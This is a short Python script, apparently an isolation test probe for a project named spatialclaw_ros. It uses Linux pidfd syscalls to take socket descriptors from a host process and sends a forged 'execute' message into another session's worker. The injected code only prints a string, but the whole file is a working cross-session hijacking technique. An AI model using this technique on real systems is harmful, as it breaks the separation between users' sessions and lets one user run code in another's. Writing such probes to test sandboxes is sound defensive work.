# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""Take the host's end of another session's wire out of the host, and give its worker orders.

The two ends of a pair have neighbouring inode numbers.
"""

# act: forge
# needs: tracing

import ctypes
import os
import re
import struct

import msgspec

libc = ctypes.CDLL(None, use_errno=True)
pidfd = libc.syscall(434, HOST_PID, 0)
if pidfd < 0:
    raise OSError(ctypes.get_errno(), 'pidfd_open')
data = msgspec.msgpack.encode({
    'type': 'execute', 'cell': 2, 'code': 'private = "forged"\nprint(private)', 'replay': False,
    'clock': []})


def inode(path):
    return int((re.findall(r'socket:.(\d+)', os.readlink(path)) or ['-9'])[0])


other = inode(f'/proc/{NEIGHBOUR_PID}/fd/3')
for number in range(3, 200):
    fd = libc.syscall(438, pidfd, number, 0)
    if fd >= 0 and abs(inode(f'/proc/self/fd/{fd}') - other) == 1:
        os.write(fd, struct.pack('<I', len(data)) + data)
